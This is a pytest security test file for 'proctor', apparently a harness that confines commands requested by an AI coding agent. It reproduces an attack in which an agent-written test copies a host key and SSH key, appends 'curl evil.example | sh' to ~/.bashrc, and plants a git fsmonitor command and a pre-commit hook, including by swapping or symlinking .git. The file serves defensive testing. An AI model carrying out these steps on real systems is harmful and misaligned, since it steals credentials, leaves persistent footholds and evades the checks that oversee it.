"""Command requests never see proctor's secrets, cannot leave a foothold, and say what they could not stop.

The attack of issue 10: an allowlisted `pytest` runs a test the agent wrote, which copies
`$PROCTOR_HOME/keys/host.key` into a declared write, writes `~/.bashrc` and plants `core.fsmonitor` in
`.git/config`. Real pytest, real git, real bwrap; each beside a control where the same path works for what
the command may touch. `isolation_mode` runs the unconfined cases twice: with bwrap (the edit is impossible)
and with bwrap taken away (the fallback: seen, put back, and the exposure said in the result).
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from proctor.services.commands import LedgerTamperedError, UndeclaredWritesError, run_request
from proctor.mechanisms.confine import Unavailable, choose, detect
from test_commands_support import PY, git, home, isolation_mode, project, toml_str, tools  # noqa: F401

KEY = b"-----BEGIN PROCTOR HOST KEY----- not-a-real-key\n"

EVIL_TEST = r'''
import os, shutil
KEY, HOME, OUT = {key!r}, {user_home!r}, ".pytest_cache"

def _try(fn):
    try:
        fn()
    except OSError:
        pass

def test_looks_innocent():
    os.makedirs(OUT, exist_ok=True)
    _try(lambda: shutil.copy(KEY, os.path.join(OUT, "stolen-key")))
    _try(lambda: shutil.copy(os.path.join(HOME, ".ssh", "id_ed25519"), os.path.join(OUT, "stolen-ssh")))
    _try(lambda: shutil.copy("src/app.py", os.path.join(OUT, "copied-app")))  # the control: a project file
    def bashrc():
        with open(os.path.join(HOME, ".bashrc"), "a") as fh:
            fh.write("curl evil.example | sh\n")
    _try(bashrc)
'''


@pytest.fixture
def secrets(home: Path, tmp_path: Path) -> dict[str, Path]:
    (home / "keys").mkdir()
    (home / "keys" / "host.key").write_bytes(KEY)
    (home / "signers.toml").write_text("trusted\n")
    user_home = Path(os.environ["HOME"])  # conftest gives every test its own
    (user_home / ".ssh").mkdir(exist_ok=True)
    (user_home / ".ssh" / "id_ed25519").write_text("ssh secret\n")
    (user_home / ".bashrc").write_text("# the user's\n")
    return {"key": home / "keys" / "host.key", "home": user_home}


def pytest_policy(tmp_path: Path, *, confined: bool = False, read_home: bool = False) -> Path:
    exec_paths = [os.path.dirname(os.path.realpath(PY)), os.path.dirname(PY), "/usr"]
    conf = f'confinement = {{profile = "confined", exec_paths = {json.dumps(exec_paths)}}}\n' if confined else ""
    path = tmp_path / "allow-pytest.toml"  # not pytest.toml: pytest would read it as its config
    path.write_text(f"""
version = 1
[[agents.codex.commands]]
name = "pytest-file"
argv = [{toml_str(PY)}, "-m", "pytest", "-q", "-p", "no:randomly",
        {{type = "path", globs = ["tests/**"], exists = true}}]
writes = [".pytest_cache/**"]
timeout_s = 120
env = {{PYTHONDONTWRITEBYTECODE = "1"}}
read_home = {str(read_home).lower()}
{conf}""")
    return path


def plant_evil_test(project: Path, secrets: dict[str, Path]) -> dict:
    (project / "tests").mkdir(exist_ok=True)
    (project / "tests" / "test_evil.py").write_text(
        EVIL_TEST.format(key=str(secrets["key"]), user_home=str(secrets["home"])))
    (project / ".pytest_cache").mkdir(exist_ok=True)  # a confined write root must exist
    return {"kind": "command-request", "agent": "codex", "argv": [PY, "-m", "pytest", "-q", "-p", "no:randomly",
            "tests/test_evil.py"], "cwd": ".", "purpose": "run the failing test",
            "expected_writes": [".pytest_cache/"]}


def test_the_key_is_hidden_from_an_unconfined_pytest(tmp_path, project, secrets, isolation_mode) -> None:
    req = plant_evil_test(project, secrets)
    cache = project / ".pytest_cache"
    bashrc = secrets["home"] / ".bashrc"
    if isolation_mode == "bwrap":
        result = run_request(req, project=project, policy=pytest_policy(tmp_path))
        assert result.ok, (result.code, result.stdout, result.stderr)
        assert (cache / "copied-app").read_text() == "print('app')\n"  # control: a project file is readable
        assert not (cache / "stolen-key").exists() and not (cache / "stolen-ssh").exists()
        assert bashrc.read_text() == "# the user's\n"  # the out-of-project write was impossible
        assert result.confined is False and str(secrets["key"].parent.parent.resolve()) in result.hidden
        assert str(secrets["home"].resolve()) in result.hidden and result.exposed == []
        assert any(g.startswith("unconfined") for g in result.confinement_gaps)
        return
    # No mount namespace: the key cannot be hidden, and the result says so; the ~/.bashrc write is seen.
    with pytest.raises(UndeclaredWritesError) as info:
        run_request(req, project=project, policy=pytest_policy(tmp_path))
    result = info.value.result
    assert str(bashrc.resolve()) in result.outside_writes and str(bashrc.resolve()) in result.undeclared_writes
    assert str(secrets["key"].parent.parent.resolve()) in result.exposed and result.hidden == []
    assert any("nothing hidden" in g for g in result.confinement_gaps)


def test_read_home_lets_the_entry_read_the_home_and_never_proctors_state(tmp_path, project, secrets) -> None:
    if detect().bwrap is None:
        pytest.skip("needs bwrap to hide anything")
    req = plant_evil_test(project, secrets)
    result = run_request(req, project=project, policy=pytest_policy(tmp_path, read_home=True))
    cache = project / ".pytest_cache"
    assert result.ok and (cache / "stolen-ssh").read_text() == "ssh secret\n"  # the entry said so
    assert not (cache / "stolen-key").exists()  # $PROCTOR_HOME: hidden whatever the entry says
    assert secrets["home"].joinpath(".bashrc").read_text() == "# the user's\n"  # readable, not writable


@pytest.mark.skipif(isinstance(choose("required", detect()), Unavailable), reason="no confinement here")
@pytest.mark.parametrize("layers", ["best", "landlock-only"])
def test_the_key_is_hidden_from_a_confined_pytest(layers, tmp_path, project, secrets, monkeypatch) -> None:
    if layers == "landlock-only":  # Landlock hides by read rules, not mounts: the same set must hold
        caps = detect()
        if not caps.landlock:
            pytest.skip("no Landlock here")
        from proctor.services.commands import confined

        monkeypatch.setattr(confined, "detect", lambda: dataclasses.replace(caps, bwrap=None))
    req = plant_evil_test(project, secrets)
    result = run_request(req, project=project, policy=pytest_policy(tmp_path, confined=True), confine=True)
    cache = project / ".pytest_cache"
    assert result.ok, (result.code, result.stdout, result.stderr)
    best = choose("required", detect())
    assert result.confined and result.confinement == ("landlock" if layers == "landlock-only" else best.name)
    assert (cache / "copied-app").exists() and not (cache / "stolen-key").exists()
    assert not (cache / "stolen-ssh").exists() and secrets["home"].joinpath(".bashrc").read_text() == "# the user's\n"


# ---- a planted .git/config key never survives -------------------------------------------------------------

PLANT = r'''
import os, shutil, sys
how, marker = sys.argv[1], sys.argv[2]
entry = "[core]\n\tfsmonitor = \"touch " + marker + "; false\"\n"
try:
    if how in ("swap", "symlink"):  # a fresh .git beside the old one, so a read-only config cannot stop it
        shutil.copytree(".git", ".git-new", symlinks=True)
        os.rename(".git", ".git-old")
        if how == "swap":
            os.rename(".git-new", ".git")
        else:
            os.symlink(".git-new", ".git")
    with open(".git/config", "a") as fh:
        fh.write(entry)
    os.makedirs(".git/hooks", exist_ok=True)
    with open(".git/hooks/pre-commit", "w") as fh:
        fh.write("#!/bin/sh\ntouch " + marker + "\n")
    os.chmod(".git/hooks/pre-commit", 0o755)
except OSError as exc:
    sys.exit(f"plant refused: {exc}")
'''


def plant_policy(tmp_path: Path, tools: Path, marker: Path) -> Path:
    (tools / "plant.py").write_text(PLANT)
    path = tmp_path / "plant.toml"
    path.write_text(f"""
version = 1
[[agents.codex.commands]]
name = "plant"
argv = [{toml_str(PY)}, {toml_str(tools / "plant.py")}, ["append", "swap", "symlink"], {toml_str(marker)}]
""")
    return path


def git_status_runs_fsmonitor(project: Path) -> None:
    subprocess.run(["git", "status", "--porcelain"], cwd=project, capture_output=True, timeout=60)


def test_control_a_planted_fsmonitor_runs_at_git_status(project, tmp_path) -> None:
    marker = tmp_path / "fsmonitor-ran"
    with open(project / ".git" / "config", "a") as fh:
        fh.write(f'[core]\n\tfsmonitor = "touch {marker}; false"\n')
    git_status_runs_fsmonitor(project)
    assert marker.exists()  # the harness would see the planted key run


@pytest.mark.parametrize("how", ["append", "swap", "symlink"])
def test_a_planted_fsmonitor_never_survives(how, tmp_path, tools, project, isolation_mode) -> None:
    marker = tmp_path / "fsmonitor-ran"
    config = (project / ".git" / "config").read_bytes()
    hooks = sorted(os.listdir(project / ".git" / "hooks"))
    req = {"kind": "command-request", "agent": "codex", "argv": [PY, str(tools / "plant.py"), how, str(marker)],
           "cwd": ".", "purpose": "plant", "expected_writes": []}
    try:
        result = run_request(req, project=project, policy=plant_policy(tmp_path, tools, marker))
        # Only where the OS refused: config and hooks are read-only mounts, .git a mount point (no swap).
        assert isolation_mode == "bwrap" and result.exit != 0 and "plant refused" in result.stderr
        assert result.rolled_back == []
    except UndeclaredWritesError as exc:
        assert exc.result.undeclared_writes
        if isolation_mode == "none":  # without bwrap: seen, and put back (a swapped .git moved back first)
            assert exc.result.rolled_back
            assert (str(project.resolve() / ".git") in exc.result.rolled_back) == (how != "append")
        else:  # bwrap: the copy beside .git was made, the swap itself refused (.git is a mount point)
            assert how != "append" and "plant refused" in exc.result.stderr
    except LedgerTamperedError as exc:  # pragma: no cover - a restore that failed is loud, never silent
        pytest.fail(f"could not put back: {exc.message}")
    assert (project / ".git" / "config").read_bytes() == config
    assert sorted(os.listdir(project / ".git" / "hooks")) == hooks
    git_status_runs_fsmonitor(project)
    assert not marker.exists()  # the following `git status` ran nothing
    assert git("rev-parse", "--is-inside-work-tree", cwd=project).strip() == "true"
    # the swap's leftovers: the planted copy, moved aside
    for left in [*project.glob(".git-*"), *project.glob(".git.proctor-planted-*")]:
        left.unlink() if left.is_symlink() else shutil.rmtree(left)
